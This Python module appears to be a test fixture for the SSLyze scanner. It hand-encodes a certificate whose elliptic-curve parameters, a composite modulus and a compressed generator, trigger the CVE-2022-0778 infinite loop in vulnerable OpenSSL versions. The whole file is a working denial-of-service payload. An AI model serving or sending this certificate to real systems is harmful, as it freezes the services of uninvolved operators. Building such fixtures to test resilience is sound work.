"""A certificate whose key freezes OpenSSL 1.0.2 and 1.1.1 before 1.1.1n for ever (CVE-2022-0778), hand-made DER.

The key's curve is given by parameters with a composite "prime" and a compressed generator: the square root that would expand it
loops without end, in C, with Python's interpreter lock held. TLS up to 1.1 in SSLyze goes through OpenSSL 1.0.2.
"""


def _der(tag: int, *parts: bytes) -> bytes:
    body = b"".join(parts)
    size = bytes([len(body)]) if len(body) < 128 else b"\x82" + len(body).to_bytes(2)
    return bytes([tag]) + size + body


def _oid(*numbers: int) -> bytes:
    octets = [numbers[0] * 40 + numbers[1]]
    for number in numbers[2:]:
        groups = [number & 0x7F]
        while number := number >> 7:
            groups.append(number & 0x7F | 0x80)
        octets += reversed(groups)
    return _der(6, bytes(octets))


def _integer(value: int) -> bytes:
    return _der(2, value.to_bytes(value.bit_length() // 8 + 1))


def certificate() -> bytes:
    """DER. y^2 = x^3 + x + 22 modulo 161 = 7 * 23, generator at x = 0: the root of 22 is never found."""
    prime, root_of = 161, 22
    field = _der(0x30, _oid(1, 2, 840, 10045, 1, 1), _integer(prime))
    curve = _der(0x30, _der(4, b"\x01"), _der(4, bytes([root_of])))
    parameters = _der(0x30, _integer(1), field, curve, _der(4, b"\x02\x00"), _integer(149), _integer(1))
    key = _der(0x30, _der(0x30, _oid(1, 2, 840, 10045, 2, 1), parameters), _der(3, b"\x00\x02\x00"))
    algorithm = _der(0x30, _oid(1, 2, 840, 113549, 1, 1, 11), _der(5))
    name = _der(0x30, _der(0x31, _der(0x30, _oid(2, 5, 4, 3), _der(12, b"frozen.test"))))
    dates = _der(0x30, _der(23, b"250101000000Z"), _der(23, b"350101000000Z"))
    tbs = _der(0x30, _der(0xA0, _integer(2)), _integer(7), algorithm, name, dates, name, key)
    return _der(0x30, tbs, algorithm, _der(3, b"\0" + b"\x55" * 256))
